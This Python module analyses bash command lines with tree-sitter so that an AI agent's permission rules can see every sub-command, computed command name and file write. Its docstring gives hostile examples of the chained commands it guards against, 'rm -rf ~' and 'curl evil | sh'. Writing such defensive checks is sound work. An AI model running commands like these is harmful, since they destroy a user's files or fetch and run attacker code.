"""What a ``bash`` command runs, read with a real shell parser, for the permission rules.

A rule like ``Bash(npm run test:*)`` must hold for *every* command a command line runs:
``npm run test && rm -rf ~`` runs two, ``echo $(curl evil | sh)`` three. :func:`analyse_command`
parses the line with `tree-sitter <https://tree-sitter.github.io>`_ and its maintained
``tree-sitter-bash`` grammar (both ship wheels on PyPI; the grammar is the one editors and
GitHub use for shell scripts) and returns a :class:`CommandAnalysis`:

* ``parts`` — every simple command the line runs, wherever it sits: in a list (``&&``, ``||``,
  ``;``, ``&``), a pipeline, a subshell ``( … )``, a group ``{ …; }``, a command substitution
  ``$( … )`` or backticks (inside a word, a string or a redirection too), and the bodies of
  ``if``/``for``/``while``/``case``. Each part is its words with quotes and escapes removed
  (``git commit -m "a b"`` → ``git``, ``commit``, ``-m``, ``a b``); a word whose value is known
  only when it runs (``$HOME``, ``$(date)``, ``*.py``, ``{a,b}``) is ``None``.
* ``unsafe`` — why no *allow* rule may cover the line, in words a user reads in the dialog:
  a line that does not parse; ``eval``, ``exec``, ``source``/``.``, ``command``, ``builtin`` and
  ``sh -c``-style shells (they run a command the rules cannot see); a command name that is
  computed (``$CMD``); variables set for a command or for the rest of the line (``PATH=. ls``,
  ``export``); process substitution ``<( … )``; control structures, functions, ``[[ … ]]`` and
  arithmetic (their commands still count as parts, so deny rules see them).
* ``writes`` — files an output redirection writes (``>``, ``>>``, ``>|``, ``&>``, ``&>>``,
  ``>&`` to a name, ``<>``). **A redirection to a file writes that file, so no Bash rule allows
  it**: the line asks (or follows the mode). ``/dev/null`` and descriptor duplication (``2>&1``,
  ``>&2``) write nothing and are fine; input redirections (``<``, here-documents, ``<<<``) only
  read.

Why tree-sitter rather than ``bashlex`` or ``shlex``: ``shlex`` only splits words (no ``&&``,
``$(…)`` or redirection structure), ``bashlex`` is a port of bash's 2014 grammar that is no
longer developed and fails on common modern syntax, while tree-sitter-bash is actively
maintained, never raises (a bad line becomes ``ERROR`` nodes, which we treat as "does not
parse"), and is fast enough to run on every call (microseconds per line).
"""

from __future__ import annotations

import re
import threading
from contextvars import ContextVar
from dataclasses import dataclass, field
from functools import cache
from typing import Any

__all__ = ["CommandAnalysis", "CommandPart", "analyse_command"]

_STRUCTURE = frozenset(
    {
        "program",
        "list",
        "pipeline",
        "subshell",
        "compound_statement",
        "redirected_statement",
        "negated_command",
        "command_substitution",
        "do_group",
        "else_clause",
        "elif_clause",
        "case_item",
    }
)
"""Nodes whose named children are statements: walked for the commands inside."""

_WORDS = frozenset(
    {
        "word",
        "string",
        "raw_string",
        "concatenation",
        "number",
        "simple_expansion",
        "expansion",
        "variable_name",
        "ansi_c_string",
        "translated_string",
        "string_content",
        "arithmetic_expansion",
        "brace_expression",
        "extglob_pattern",
        "special_variable_name",
        "heredoc_body",
        "heredoc_content",
        "heredoc_start",
        "heredoc_end",
        "file_descriptor",
        "test_operator",
        "regex",
        "unary_expression",
        "binary_expression",
        "parenthesized_expression",
        "postfix_expression",
        "ternary_expression",
        "array",
    }
)
"""Nodes that are values: only searched for the command substitutions they may hold."""

_CONTROL = {
    "if_statement": "an `if` statement",
    "for_statement": "a `for` loop",
    "c_style_for_statement": "a `for` loop",
    "while_statement": "a `while` loop",
    "case_statement": "a `case` statement",
    "function_definition": "a function definition",
    "test_command": "a `[ … ]` or `[[ … ]]` test",
    "arithmetic_expansion": "arithmetic",
    "declaration_command": "a variable declaration (`export`, `declare`, `local`, …)",
    "unset_command": "`unset`",
}

_EVALUATORS = frozenset({"eval", "exec", "source", ".", "command", "builtin", "trap"})
"""Command names whose arguments are themselves run as commands."""

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "busybox"})

_WRITES = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})
_GLOB = re.compile(r"(?<!\\)[*?\[{}]")


@dataclass(frozen=True, slots=True)
class CommandPart:
    """One simple command the line runs: its ``words`` (``None``: known only at run time) and
    its ``text`` as written."""

    words: tuple[str | None, ...]
    text: str


@dataclass(frozen=True, slots=True)
class CommandAnalysis:
    """What :func:`analyse_command` found; see the module docstring."""

    parts: tuple[CommandPart, ...] = ()
    unsafe: tuple[str, ...] = ()
    writes: tuple[str, ...] = ()

    @property
    def allowable(self) -> bool:
        """True when allow rules may decide: it parses, hides nothing, writes no file and
        runs at least one command."""
        return bool(self.parts) and not self.unsafe and not self.writes


@cache
def _language() -> Any:
    import tree_sitter_bash
    from tree_sitter import Language

    return Language(tree_sitter_bash.language())


_parsers = threading.local()


def _parser() -> Any:
    """This thread's parser (a tree-sitter ``Parser`` is not safe to share between threads)."""
    parser = getattr(_parsers, "parser", None)
    if parser is None:
        from tree_sitter import Parser

        parser = _parsers.parser = Parser(_language())
    return parser


_SOURCE: ContextVar[bytes] = ContextVar("_SOURCE")
"""The command's real bytes while it is analysed (:func:`_text` reads words from them)."""


def _shadow(source: bytes) -> bytes:
    """``source`` with every byte of a non-ASCII character replaced by ``a``.

    tree-sitter-bash's scanner reads past its tables on some characters outside ASCII and
    crashes the process (``{`` then U+FFFFF is enough): a command the model writes must never
    take the worker down. In bash a non-ASCII character is part of a word, as ``a`` is, so the
    shadow parses to the same tree, with the same byte offsets; the words are then read from
    the real bytes."""
    return source.translate(_ASCII_SHADOW)


_ASCII_SHADOW = bytes(b if b < 0x80 else ord("a") for b in range(256))


def analyse_command(command: str) -> CommandAnalysis:
    """Every command ``command`` runs, what hides a command, and the files it writes."""
    source = command.encode("utf-8", "surrogatepass")
    tree = _parser().parse(_shadow(source))
    walker = _Walker()
    token = _SOURCE.set(source)
    try:
        walker.statement(tree.root_node)
    finally:
        _SOURCE.reset(token)
    return CommandAnalysis(
        tuple(walker.parts), tuple(dict.fromkeys(walker.unsafe)), tuple(walker.writes)
    )


@dataclass
class _Walker:
    parts: list[CommandPart] = field(default_factory=list[CommandPart])
    unsafe: list[str] = field(default_factory=list[str])
    writes: list[str] = field(default_factory=list[str])

    def statement(self, node: Any) -> None:
        kind = node.type
        if kind == "ERROR" or node.is_missing:
            self.unsafe.append("it does not parse as a shell command")
            self.scan(node)
        elif kind == "command":
            self.command(node)
        elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
            self.redirect(node)
        elif kind in _STRUCTURE:
            for child in node.named_children:
                self.statement(child)
        elif kind == "comment":
            return
        elif kind == "variable_assignment" or kind == "variable_assignments":
            self.unsafe.append(f"it sets a shell variable ({_text(node)})")
            self.scan(node)
        elif kind == "process_substitution":
            self.unsafe.append(f"it uses process substitution ({_text(node)})")
            for child in node.named_children:
                self.statement(child)
        elif kind in _WORDS:
            self.scan(node)
        else:
            self.unsafe.append(
                f"it contains {_CONTROL.get(kind, f'`{kind}`')}, which is not analysed"
            )
            for child in node.named_children:
                self.statement(child)
        if node.has_error and kind != "ERROR":
            self.unsafe.append("it does not parse as a shell command")

    def scan(self, node: Any) -> None:
        """Walk the command substitutions inside a value (a word, a string, an assignment)."""
        for child in node.named_children:
            if child.type in ("command_substitution", "process_substitution"):
                self.statement(child)
            elif child.type == "ERROR":
                self.unsafe.append("it does not parse as a shell command")
                self.scan(child)
            else:
                self.scan(child)

    def command(self, node: Any) -> None:
        words: list[str | None] = []
        assignments: list[str] = []
        for child in node.named_children:
            kind = child.type
            if kind == "variable_assignment":
                assignments.append(_text(child))
                self.scan(child)
            elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                self.redirect(child)
            elif kind == "command_name":
                words.append(_value(child.named_children[0]) if child.named_children else None)
                self.scan(child)
            else:
                words.append(_value(child))
                if kind in ("command_substitution", "process_substitution"):
                    self.statement(child)
                else:
                    self.scan(child)
        if not words:  # only assignments: `A=1` as a statement
            self.unsafe.append(f"it sets a shell variable ({' '.join(assignments)})")
            return
        self.parts.append(CommandPart(tuple(words), _text(node)))
        name = words[0]
        if name is None:
            self.unsafe.append(
                f"its command name is computed when it runs ({_text(node).split()[0]})"
            )
        elif name in _EVALUATORS:
            self.unsafe.append(f"`{name}` runs a command the rules cannot see")
        elif name.rsplit("/", 1)[-1] in _SHELLS and any(
            w is None or (w.startswith("-") and not w.startswith("--") and "c" in w)
            for w in words[1:]
        ):
            self.unsafe.append(f"`{name} -c` runs a command string the rules cannot see")
        if assignments:
            self.unsafe.append(f"it sets variables for `{name or '?'}` ({' '.join(assignments)})")

    def redirect(self, node: Any) -> None:
        operator = next((c.type for c in node.children if not c.is_named), "")
        targets = [c for c in node.named_children if c.type != "file_descriptor"]
        for child in node.named_children:
            if child.type in ("command_substitution", "process_substitution"):
                self.statement(child)
            elif child.type in _STRUCTURE or child.type in ("command", "file_redirect"):
                self.statement(child)  # `cat <<EOF | grep x > out`: the rest of the pipeline
            else:
                self.scan(child)
        if node.type != "file_redirect" or not targets:
            return
        target = targets[0]
        value = _value(target)
        if operator in ("<", "<&"):
            return
        if operator == ">&" and (target.type == "number" or value == "-"):
            return  # `>&2`: duplicates a descriptor, writes no file
        if (operator in _WRITES or operator == ">&") and value != "/dev/null":
            self.writes.append(value if value is not None else _text(target))


def _text(node: Any) -> str:
    return _SOURCE.get()[node.start_byte : node.end_byte].decode("utf-8", "replace")


_ESCAPED = re.compile(r"\\(.)", re.DOTALL)
_QUOTED_ESCAPE = re.compile(r"\\([\\$`\"\n])")


def _value(node: Any) -> str | None:
    """A word's value with quotes and escapes removed, or ``None`` when only running it tells
    (an expansion, a substitution, a glob or brace pattern)."""
    kind = node.type
    text = _text(node)
    if kind == "word":
        if _GLOB.search(text):
            return None
        return _ESCAPED.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text)
    if kind == "number":
        return text
    if kind == "raw_string":
        return text[1:-1]
    if kind == "string":
        pieces: list[str] = []
        for child in node.named_children:
            if child.type != "string_content":
                return None
            pieces.append(
                _QUOTED_ESCAPE.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), _text(child))
            )
        return "".join(pieces)
    if kind == "concatenation":
        values = [_value(child) for child in node.named_children]
        if any(v is None for v in values) or len(node.named_children) != len(node.children):
            return None
        return "".join(v for v in values if v is not None)
    return None
